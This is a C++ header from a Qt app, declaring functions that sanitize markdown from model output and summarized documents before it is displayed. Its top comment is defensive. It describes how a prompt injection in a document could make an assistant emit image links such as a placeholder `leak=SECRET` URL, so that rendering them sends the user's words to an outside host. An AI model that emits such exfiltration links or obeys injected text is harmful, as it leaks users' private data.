#pragma once
// Model output and document text are untrusted. Rendered as Markdown by QTextDocument (TextEdit), an
// image `![x](http://host/?leak=SECRET)`, a raw `<img src=…>` or an HTML `background=` attribute is
// fetched over the network when the message is shown: a way for a prompt injection in a summarized
// document to send the user's words out of the PC. safeMarkdown() rewrites the text so that nothing is
// referenced as a resource, keeping what the reader sees:
//   - an image becomes a link to the same address ("!" stays as text, the alt text is the link text),
//     which opens only after LinkConfirmDialog;
//   - raw HTML is shown as the literal text it is (`<` escaped); autolinks `<https://…>` stay links;
//   - fenced code and inline code spans are left as written.
// The rewrite is then checked with Qt's own Markdown parser (the one TextEdit uses): if any resource is
// still referenced (a construct the rewrite misread), the text is escaped everywhere, code included,
// and as a last resort shown as plain text. The QML engine's network access is refused as well
// (shell/offline_network.h): this is the first line, that one the second.
#include <QString>

namespace sosoik::app {

QString safeMarkdown(const QString& markdown);

// True when Qt's Markdown parser would reference any image or other resource for this text.
bool markdownReferencesResources(const QString& markdown);

} // namespace sosoik::app
